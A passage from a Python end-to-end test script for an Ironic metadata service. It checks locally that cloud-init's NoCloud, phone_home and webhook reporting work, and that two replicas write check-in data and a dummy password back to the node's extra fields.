        root = f"http://127.0.0.1:{svc.port}/"
        for n, spec in enumerate(nodes):
            i, cd = 30 + n, spec["configdrive"]
            kind = spec["network_data"]["links"][-1]["type"]
            got = cloud_init_client(ip_of(i), root, "nocloud")
            if not check(got.get("found"), f"cloud-init's NoCloud datasource takes {spec['name']}'s seed ({kind})",
                         json.dumps(got)[:600]):
                continue
            eq([got["instance_id"], got["hostname"], got["keys"], got["user_data"], got["vendor_data"]],
               [cd["meta_data"]["uuid"], spec["name"], list(cd["meta_data"]["public_keys"].values()),
                cd["user_data"], ""],
               f"NoCloud {kind}: cloud-init reads the instance id, hostname, keys and user data Ironic holds")
            want = {"phy": [["eth0", "physical"]],
                    "bond": [["bond0", "bond"], ["eth0", "physical"], ["eth1", "physical"]],
                    "vlan": [["eth0", "physical"], ["eth0.120", "vlan"]]}[kind]
            eq(got["interfaces"], want, f"NoCloud {kind}: cloud-init's network state of network-config")
            check(ip_of(i) in got["addresses"] and f"address {ip_of(i)}/24" in got["eni"],
                  f"NoCloud {kind}: the static address in its network state and ENI rendering", got["eni"])
            eq(got["netplan"], openstack_netplan(svc, i),
               f"NoCloud {kind}: cloud-init renders network-config as it renders the OpenStack tree's network_data")
        client = harness.Client(ironic.url)
        for n, spec in enumerate(nodes):
            checked_in(svc, client, root, spec, 30 + n)
    finally:
        if svc:
            svc.stop()
        ironic.close()


def checked_in(svc, client, root, spec, i):
    """cloud-init's phone_home module and webhook reporting handler, run from node `i`'s
    address: the admin listener's /nodes/<uuid>/checkin holds the fingerprints ssh-keygen
    prints for the keys posted, the node's names and the last event of each stage."""
    name = spec["name"]
    uuid = client.request("GET", f"/v1/nodes/{name}")["uuid"]
    keys = Path(tempfile.mkdtemp())
    want = []
    for t in ("rsa", "ecdsa", "ed25519"):
        key = keys / f"ssh_host_{t}_key"
        subprocess.run(["ssh-keygen", "-q", "-t", t, "-N", "", "-C", f"root@{name}", "-f", str(key)], check=True)
        want.append(subprocess.run(["ssh-keygen", "-lf", f"{key}.pub"], capture_output=True, text=True,
                                   check=True).stdout.split()[1])
    got = cloud_init_client(ip_of(i), root, "phone_home", str(keys))
    check(got.get("found"), f"phone_home on {name}: cloud-init's NoCloud datasource found", json.dumps(got)[:400])
    reported = cloud_init_client(ip_of(i), root, "reporting")
    check("stages" in reported, f"reporting on {name}: cloud-init's webhook handler ran", json.dumps(reported)[:400])
    status, body = svc.admin_get(f"/nodes/{uuid}/checkin")
    if not check(status == 200, f"{name}: /nodes/<uuid>/checkin answers", body[:300]):
        return
    view = json.loads(body)
    ph = view.get("phone_home") or {}
    eq([k["fingerprint"] for k in ph.get("host_keys", [])], want,
       f"phone_home on {name}: the stored fingerprints are ssh-keygen -lf's of the keys posted")
    eq([ph.get("instance_id"), ph.get("hostname")], [spec["configdrive"]["meta_data"]["uuid"], name],
       f"phone_home on {name}: the instance id and hostname cloud-init posted")
    results = {stage: (e["event_type"], e.get("result")) for stage, e in view.get("events", {}).items()}
    eq(results, {"init-local": ("finish", "SUCCESS"), "init-network": ("finish", "SUCCESS"),
                 "modules-config": ("finish", "SUCCESS"), "modules-final": ("finish", "FAIL")},
       f"reporting on {name}: the last event of each stage, modules-final failed")


def scenario_replicas(binary):
    """Two replicas with --checkin-write-back and --password-write-back on one real Ironic:
    cloud-init's phone_home module posts to replica A and its webhook reporting handler to
    replica B, one right after the other; both replicas' /nodes/<uuid>/checkin then show the
    fingerprints and every stage's result (each read back from the node's extra with its
    polls), and Ironic's node holds them under extra.ironic_metadata_checkin, its other extra
    keys untouched. A password POSTed to A is answered by B and held in the node's extra."""
    path = os.environ.get("CLOUD_INIT_PATH")
    if not check(bool(path), "CLOUD_INIT_PATH is set (run through scripts/e2e.sh)"):
        return
    if path not in sys.path:
        sys.path.insert(0, path)
    ironic = Ironic()
    svcs = []
    try:
        spec = specs(40, 1, "replicas-")[0]
        ironic.harness("enroll", spec=[spec])
        client = harness.Client(ironic.url)
        name, i = spec["name"], 40
        uuid = client.request("GET", f"/v1/nodes/{name}")["uuid"]
        client.request("PATCH", f"/v1/nodes/{uuid}", [{"op": "add", "path": "/extra/rack", "value": "r12"}])
        args = ["--ironic-url", ironic.url, "--checkin-write-back", "--password-write-back",
                "--poll-interval", "1"]
        svcs = [Service(binary, args), Service(binary, args)]
        a, b = svcs
        for svc in svcs:
            wait_for(lambda svc=svc: svc.readyz().get("ready"), "first sweep")
        keys = Path(tempfile.mkdtemp())
        want = []
        for t in ("rsa", "ecdsa", "ed25519"):
            key = keys / f"ssh_host_{t}_key"
            subprocess.run(["ssh-keygen", "-q", "-t", t, "-N", "", "-C", f"root@{name}", "-f", str(key)],
                           check=True)
            want.append(subprocess.run(["ssh-keygen", "-lf", f"{key}.pub"], capture_output=True, text=True,
                                       check=True).stdout.split()[1])
        stages = {"init-local": ("finish", "SUCCESS"), "init-network": ("finish", "SUCCESS"),
                  "modules-config": ("finish", "SUCCESS"), "modules-final": ("finish", "FAIL")}
        t0 = time.monotonic()
        got = cloud_init_client(ip_of(i), f"http://127.0.0.1:{a.port}/", "phone_home", str(keys))
        check(got.get("found"), "replicas: cloud-init's phone_home ran against replica A", json.dumps(got)[:400])
        reported = cloud_init_client(ip_of(i), f"http://127.0.0.1:{b.port}/", "reporting")
        check("stages" in reported, "replicas: cloud-init's webhook handler reported to replica B",
              json.dumps(reported)[:400])

        def seen(doc):
            ph = (doc or {}).get("phone_home") or {}
            results = {st: (e["event_type"], e.get("result")) for st, e in (doc or {}).get("events", {}).items()}
            return [k["fingerprint"] for k in ph.get("host_keys", [])], results

        def shown(svc):
            status, body = svc.admin_get(f"/nodes/{uuid}/checkin")
            return seen(json.loads(body)) if status == 200 else None

        for svc, which in ((a, "A"), (b, "B")):
            wait_for(lambda svc=svc: shown(svc) == (want, stages),
                     f"replica {which} shows the fingerprints posted to A and the stages reported to B",
                     timeout=30)
            eq(shown(svc), (want, stages), f"replicas: replica {which}'s /nodes/<uuid>/checkin holds both")
        print(f"  both replicas agree {time.monotonic() - t0:.1f}s after the check-ins "
              f"(cloud-init's own run included)")
        extra = client.request("GET", f"/v1/nodes/{uuid}")["extra"]
        held = extra.get("ironic_metadata_checkin")
        eq(seen(held), (want, stages), "replicas: Ironic's node extra.ironic_metadata_checkin holds both")
        print(f"  extra.ironic_metadata_checkin: {len(json.dumps(held or {}))} bytes of JSON")
        eq(extra.get("rack"), "r12", "replicas: the node's other extra keys are left as they were")
        check(held and len(json.dumps(held)) <= 4096 and "AAAA" not in json.dumps(held),
              "replicas: the written value is at most 4 KiB and holds no key", json.dumps(held)[:300])
        check(a.metric('metadata_ironic_write_backs_total{kind="checkin",result="written"}') >= 1
              and b.metric('metadata_ironic_write_backs_total{kind="checkin",result="written"}') >= 1,
              "replicas: both replicas wrote to Ironic")
        # cloudbase-init's password, POSTed to A: B answers it once its polls have read it.
        conn = http.client.HTTPConnection("127.0.0.1", a.port, timeout=15, source_address=(ip_of(i), 0))
        conn.request("POST", "/openstack/latest/password", body=b"c2VjcmV0")
        eq(conn.getresponse().status, 200, "replicas: a password POSTed to replica A is stored")
        conn.close()
        wait_for(lambda: b.get("/openstack/latest/password", ip_of(i)) == (200, "c2VjcmV0"),
                 "replica B answers the password POSTed to A", timeout=30)
        eq(b.get("/openstack/latest/password", ip_of(i)), (200, "c2VjcmV0"),
           "replicas: replica B answers the password POSTed to A")
        held = client.request("GET", f"/v1/nodes/{uuid}")["extra"].get("ironic_metadata_password") or {}
        eq(held.get("password"), "c2VjcmV0", "replicas: Ironic's node extra.ironic_metadata_password holds it")
    finally:
        for svc in svcs:
            svc.stop()
        ironic.close()


def main():
    binary = sys.argv[1] if len(sys.argv) > 1 else sys.exit(__doc__)
    t0 = time.monotonic()
    only = sys.argv[2:] or ["noauth", "tenants", "masked", "http_basic", "live", "clients", "replicas"]
    for scenario in [globals()[f"scenario_{name}"] for name in only]:
        print(f"== {scenario.__name__}", flush=True)
        scenario(binary)
    print(f"e2e took {time.monotonic() - t0:.0f}s")
    sys.exit(CHECKS.summary())


if __name__ == "__main__":
    main()
